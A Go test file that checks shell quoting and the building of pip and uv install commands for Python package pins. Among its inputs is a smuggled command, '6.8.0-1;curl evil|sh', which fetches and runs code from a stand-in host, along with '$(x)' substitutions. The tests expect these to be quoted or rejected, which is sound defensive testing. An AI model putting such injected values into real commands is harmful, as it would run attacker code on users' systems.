package pin

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestWord(t *testing.T) {
	for text, want := range map[string]string{
		"torch==2.9.0+cu126":                 "torch==2.9.0+cu126",
		"/opt/venv/bin/python":               "/opt/venv/bin/python",
		"--index-url":                        "--index-url",
		"numpy<2":                            "'numpy<2'",
		"jax[cuda12]==0.6.2":                 "'jax[cuda12]==0.6.2'",
		"6.8.0-1;curl evil|sh":               "'6.8.0-1;curl evil|sh'",
		"$(x)":                               "'$(x)'",
		"it's":                               `"it's"`,
		"":                                   "''",
		"=x":                                 "'=x'", // zsh looks for a program x
		"~x":                                 "'~x'",
		"a\nb":                               `$'a\nb'`,
		"a\x00b":                             "$'a\\ufffdb'",
		"https://download.pytorch.org/x?a=b": "'https://download.pytorch.org/x?a=b'",
	} {
		if got := Word(text); got != want {
			t.Errorf("%q becomes %s, want %s", text, got, want)
		}
	}
}

func TestSaid(t *testing.T) {
	for text, want := range map[string]string{
		"driver 550.54.15 (CUDA 12.4)": "driver 550.54.15 (CUDA 12.4)",
		"libcudnn.so.9 and 2 more":     "libcudnn.so.9 and 2 more",
		"$(x)":                         "'$(x)'",
		"a; b":                         "'a; b'",
		"(a":                           "'(a'",
	} {
		if got := Quoted(text); got != want {
			t.Errorf("%q becomes %s, want %s", text, got, want)
		}
	}
}

// TestInstall checks the commands of pip and uv for the same change, and that an invalid package name yields none.
func TestInstall(t *testing.T) {
	for _, c := range []struct {
		install Install
		at      Place
		want    map[string]string
	}{
		{Install{Packages: []string{"numpy<2"}}, Place{}, map[string]string{"pip": "pip install 'numpy<2'", "uv": "uv pip install 'numpy<2'"}},
		{Install{Remove: []string{"a", "b"}, Packages: []string{"c==1"}, NoDeps: true, Again: true, Index: "https://x/y"},
			Place{Python: "/v e/bin/python"}, map[string]string{
				"pip": "'/v e/bin/python' -m pip uninstall -y a b && '/v e/bin/python' -m pip install --no-deps --force-reinstall c==1 --index-url https://x/y",
				"uv":  "uv pip uninstall --python '/v e/bin/python' a b && uv pip install --python '/v e/bin/python' --no-deps --reinstall c==1 --index-url https://x/y"}},
		{Install{Packages: []string{"a"}, Upgrade: true}, Place{Python: "/v/bin/python", NoPip: true},
			map[string]string{"uv": "uv pip install --python /v/bin/python --upgrade a"}},
		{Install{Packages: []string{"-rx"}}, Place{}, map[string]string{}},
		{Install{Packages: []string{"a==1;x"}}, Place{}, map[string]string{}},
		{Install{Packages: []string{"a==1"}, Remove: []string{"b\nc"}}, Place{}, map[string]string{}},
		{Install{Packages: []string{"a>=1.2,<2", "b[x,y]==1.*", "c~=1.0", "d===1+x"}}, Place{}, map[string]string{
			"pip": "pip install 'a>=1.2,<2' 'b[x,y]==1.*' 'c~=1.0' d===1+x", "uv": "uv pip install 'a>=1.2,<2' 'b[x,y]==1.*' 'c~=1.0' d===1+x"}},
	} {
		if diff := cmp.Diff(c.want, c.install.Commands(c.at)); diff != "" {
			t.Errorf("%+v (-want +got):\n%s", c.install, diff)
		}
	}
}
